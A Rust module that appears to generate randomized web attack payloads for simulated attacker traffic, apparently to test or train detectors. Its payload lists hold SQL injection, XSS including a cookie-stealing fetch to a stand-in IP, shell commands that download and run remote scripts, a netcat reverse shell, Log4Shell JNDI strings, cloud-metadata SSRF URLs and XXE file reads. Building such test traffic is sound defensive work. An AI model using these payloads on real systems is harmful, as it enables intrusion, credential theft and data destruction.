//! Injection payloads for the attacker and scanner actors. Each payload is assembled from small
//! parts (a breakout, a core, a tail) with random numbers and names mixed in, so the traffic holds
//! many distinct strings of each attack type instead of a short fixed list a detector could learn.

use std::fmt::Write;

use crate::random::Random;

/// Attack types the generator produces; names from the attack vocabulary of PRODUCT.md A1.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum AttackType {
    Sqli,
    Nosqli,
    Xss,
    Rce,
    Ptrav,
    Ssrf,
    Ssti,
    Crlf,
    Redir,
    Ldapi,
    Xxe,
}

impl AttackType {
    pub(crate) fn name(self) -> &'static str {
        match self {
            AttackType::Sqli => "sqli",
            AttackType::Nosqli => "nosqli",
            AttackType::Xss => "xss",
            AttackType::Rce => "rce",
            AttackType::Ptrav => "ptrav",
            AttackType::Ssrf => "ssrf",
            AttackType::Ssti => "ssti",
            AttackType::Crlf => "crlf",
            AttackType::Redir => "redir",
            AttackType::Ldapi => "ldapi",
            AttackType::Xxe => "xxe",
        }
    }
}

/// How often attackers use each type: the common web attacks dominate.
pub(crate) const ATTACK_MIX: &[(AttackType, u32)] = &[
    (AttackType::Sqli, 30),
    (AttackType::Xss, 22),
    (AttackType::Rce, 10),
    (AttackType::Ptrav, 10),
    (AttackType::Ssrf, 8),
    (AttackType::Ssti, 6),
    (AttackType::Nosqli, 5),
    (AttackType::Crlf, 3),
    (AttackType::Redir, 3),
    (AttackType::Ldapi, 2),
    (AttackType::Xxe, 1),
];

const SQL_BREAKOUTS: &[&str] = &[
    "'", "\"", "')", "'))", "1'", "1", "-1", "x')", "admin'", "0\"",
];
const SQL_TABLES: &[&str] = &[
    "users",
    "accounts",
    "orders",
    "customers",
    "admin",
    "payments",
];
const SQL_COLUMNS: &[&str] = &[
    "password", "email", "username", "passwd", "api_key", "card_no",
];
const SQL_TAILS: &[&str] = &["-- ", "--", "#", "/*", ";--", ""];

const XSS_HANDLERS: &[&str] = &[
    "onerror",
    "onload",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onanimationstart",
];
const XSS_TAGS: &[&str] = &[
    "img src=x",
    "svg",
    "body",
    "details open",
    "input autofocus",
    "video src=1",
];
const XSS_SINKS: &[&str] = &[
    "alert(1)",
    "alert(document.domain)",
    "prompt(document.cookie)",
    "fetch('//198.51.100.66/c?'+document.cookie)",
    "eval(atob('YWxlcnQoMSk='))",
    "confirm`1`",
];

const SHELL_SEPARATORS: &[&str] = &[";", "|", "||", "&&", "%0a", "`", "$("];
const SHELL_COMMANDS: &[&str] = &[
    "id",
    "cat /etc/passwd",
    "uname -a",
    "whoami",
    "wget http://198.51.100.66/x.sh -O- | sh",
    "curl -s http://203.0.113.99:8000/b | bash",
    "ping -c 3 198.51.100.66",
    "sleep 7",
    "nc -e /bin/sh 203.0.113.99 4444",
];

const TRAVERSAL_STEPS: &[&str] = &[
    "../",
    "..%2f",
    "..\\",
    "%2e%2e/",
    "....//",
    "..%252f",
    "%2e%2e%5c",
];
const TRAVERSAL_TARGETS: &[&str] = &[
    "etc/passwd",
    "etc/shadow",
    "windows/win.ini",
    "proc/self/environ",
    "var/log/nginx/access.log",
    "app/config/database.yml",
    "boot.ini",
];

const SSRF_TARGETS: &[&str] = &[
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://127.0.0.1:{port}/",
    "http://localhost:{port}/admin",
    "http://[::1]:{port}/",
    "http://0x7f000001:{port}/",
    "gopher://127.0.0.1:{port}/_INFO",
    "file:///etc/passwd",
    "dict://127.0.0.1:{port}/info",
    "http://10.0.0.1:{port}/internal/health",
];
const SSRF_PORTS: &[u32] = &[80, 22, 25, 2375, 6379, 8080, 8500, 9200, 11211, 5432];

const TEMPLATE_SHAPES: &[(&str, &str)] = &[
    ("{{", "}}"),
    ("${", "}"),
    ("<%=", "%>"),
    ("#{", "}"),
    ("{%", "%}"),
];
const TEMPLATE_GADGETS: &[&str] = &[
    "config.items()",
    "self.__init__.__globals__.__builtins__",
    "''.__class__.__mro__[1].__subclasses__()",
    "request.application.__globals__",
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "7*'7'",
];

const REDIRECT_TARGETS: &[&str] = &[
    "https://evil.example/login",
    "//evil.example/%2f..",
    "https:evil.example",
    "/\\evil.example",
    "https://shop.example.evil.example/",
    "javascript:alert(1)",
];

const LDAP_SHAPES: &[&str] = &[
    "*)(uid=*))(|(uid=*",
    "*)(|(objectClass=*)",
    "admin)(&(password=*))",
    "*)(cn=*)",
    "x)(|(mail=*)",
];

/// Writes a payload of `kind` into `out` (which is cleared first).
pub(crate) fn write_payload(out: &mut String, random: &mut Random, kind: AttackType) {
    out.clear();
    match kind {
        AttackType::Sqli => write_sqli(out, random),
        AttackType::Nosqli => {
            let operator = random.pick(&["$ne", "$gt", "$regex", "$where", "$exists"]);
            match operator {
                "$regex" => {
                    let _ = write!(
                        out,
                        "{{\"$regex\":\"^{}\"}}",
                        random.pick(&["a", "adm", ".*", "r"])
                    );
                }
                "$where" => {
                    let _ = write!(
                        out,
                        "{{\"$where\":\"sleep({})\"}}",
                        random.between(1, 9) * 1000
                    );
                }
                "$exists" => out.push_str("{\"$exists\":true}"),
                other => {
                    let _ = write!(out, "{{\"{other}\":\"\"}}");
                }
            }
        }
        AttackType::Xss => write_xss(out, random),
        AttackType::Rce => {
            if random.chance(0.2) {
                let _ = write!(
                    out,
                    "${{jndi:{}://198.51.100.{}:{}/{}}}",
                    random.pick(&["ldap", "rmi", "dns", "ldaps"]),
                    random.between(2, 250),
                    random.pick(&[1389u32, 1099, 53, 636]),
                    random.pick(&["a", "Exploit", "o", "x1"])
                );
                return;
            }
            let separator = random.pick(SHELL_SEPARATORS);
            let command = random.pick(SHELL_COMMANDS);
            if random.chance(0.5) {
                out.push_str(random.pick(&["127.0.0.1", "report.csv", "1", "test"]));
            }
            out.push_str(separator);
            out.push_str(command);
            if separator == "$(" {
                out.push(')');
            } else if separator == "`" {
                out.push('`');
            }
        }
        AttackType::Ptrav => {
            let depth = random.between(3, 8);
            let step = random.pick(TRAVERSAL_STEPS);
            if random.chance(0.2) {
                out.push_str(random.pick(&["/var/www/", "static/", "images/", "C:\\inetpub\\"]));
            }
            for _ in 0..depth {
                out.push_str(step);
            }
            out.push_str(random.pick(TRAVERSAL_TARGETS));
            if random.chance(0.15) {
                out.push_str("%00.png");
            }
        }
        AttackType::Ssrf => {
            let target = random.pick(SSRF_TARGETS);
            let port = random.pick(SSRF_PORTS);
            let text = target.replace("{port}", &port.to_string());
            out.push_str(&text);
        }
        AttackType::Ssti => {
            let (open, close) = random.pick(TEMPLATE_SHAPES);
            out.push_str(open);
            if random.chance(0.4) {
                let left = random.between(3, 99);
                let right = random.between(3, 99);
                let _ = write!(out, "{left}*{right}");
            } else {
                out.push_str(random.pick(TEMPLATE_GADGETS));
            }
            out.push_str(close);
        }
        AttackType::Crlf => {
            out.push_str(random.pick(&["en", "/", "home", "1"]));
            out.push_str(random.pick(&["\r\n", "%0d%0a", "\r\n\r\n", "%0a"]));
            let _ = write!(
                out,
                "{}",
                random.pick(&[
                    "Set-Cookie: admin=true",
                    "Location: https://evil.example/",
                    "X-Injected: 1",
                    "Content-Length: 0",
                ])
            );
        }
        AttackType::Redir => out.push_str(random.pick(REDIRECT_TARGETS)),
        AttackType::Ldapi => out.push_str(random.pick(LDAP_SHAPES)),
        AttackType::Xxe => {
            let entity = random.pick(&["xxe", "ent", "x", "data"]);
            let target = random.pick(&[
                "file:///etc/passwd",
                "file:///c:/windows/win.ini",
                "http://169.254.169.254/latest/meta-data/",
                "php://filter/convert.base64-encode/resource=index.php",
            ]);
            let _ = write!(
                out,
                "<?xml version=\"1.0\"?><!DOCTYPE order [<!ENTITY {entity} SYSTEM \"{target}\">]><order><note>&{entity};</note><qty>{}</qty></order>",
                random.between(1, 5)
            );
        }
    }
}

fn write_sqli(out: &mut String, random: &mut Random) {
    out.push_str(random.pick(SQL_BREAKOUTS));
    let table = random.pick(SQL_TABLES);
    let column = random.pick(SQL_COLUMNS);
    match random.below(7) {
        0 => {
            let number = random.between(1, 99);
            let _ = write!(out, " OR {number}={number}");
        }
        1 => {
            let columns = random.between(1, 6);
            out.push_str(" UNION SELECT ");
            for index in 0..columns {
                if index > 0 {
                    out.push(',');
                }
                if index == 0 {
                    out.push_str(column);
                } else {
                    out.push_str("NULL");
                }
            }
            let _ = write!(out, " FROM {table}");
        }
        2 => {
            let _ = write!(out, " AND SLEEP({})", random.between(2, 12));
        }
        3 => {
            let _ = write!(out, "; DROP TABLE {table}");
        }
        4 => {
            let letter = random.pick(&["a", "x", "1"]);
            let _ = write!(out, " OR '{letter}'='{letter}");
        }
        5 => {
            let _ = write!(
                out,
                " AND (SELECT SUBSTRING({column},1,1) FROM {table} LIMIT 1)='{}'",
                random.pick(&["a", "b", "$", "1"])
            );
        }
        _ => {
            let _ = write!(
                out,
                " AND 1=CONVERT(int,(SELECT TOP 1 {column} FROM {table}))"
            );
        }
    }
    out.push_str(random.pick(SQL_TAILS));
}

fn write_xss(out: &mut String, random: &mut Random) {
    let sink = random.pick(XSS_SINKS);
    match random.below(4) {
        0 => {
            out.push_str(random.pick(&["", "\">", "'>", "</title>"]));
            let _ = write!(out, "<script>{sink}</script>");
        }
        1 => {
            let tag = random.pick(XSS_TAGS);
            let handler = random.pick(XSS_HANDLERS);
            out.push_str(random.pick(&["", "\">", "'>"]));
            let _ = write!(out, "<{tag} {handler}={sink}>");
        }
        2 => {
            let _ = write!(out, "javascript:{sink}");
        }
        _ => {
            let _ = write!(out, "<iframe srcdoc=\"<script>{sink}</script>\"></iframe>");
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::BTreeSet;

    #[test]
    fn every_type_produces_many_distinct_non_empty_payloads() {
        let mut random = Random::new(99);
        let mut out = String::new();
        for (kind, _) in ATTACK_MIX {
            let mut seen = BTreeSet::new();
            for _ in 0..200 {
                write_payload(&mut out, &mut random, *kind);
                assert!(!out.is_empty(), "{kind:?} produced an empty payload");
                seen.insert(out.clone());
            }
            assert!(
                seen.len() >= 4,
                "{kind:?} produced only {} distinct payloads",
                seen.len()
            );
        }
    }

    #[test]
    fn nosql_payloads_are_json_objects() {
        let mut random = Random::new(4);
        let mut out = String::new();
        for _ in 0..50 {
            write_payload(&mut out, &mut random, AttackType::Nosqli);
            let value: serde_json::Value =
                serde_json::from_str(&out).expect("nosqli payload is JSON");
            assert!(value.is_object());
        }
    }
}
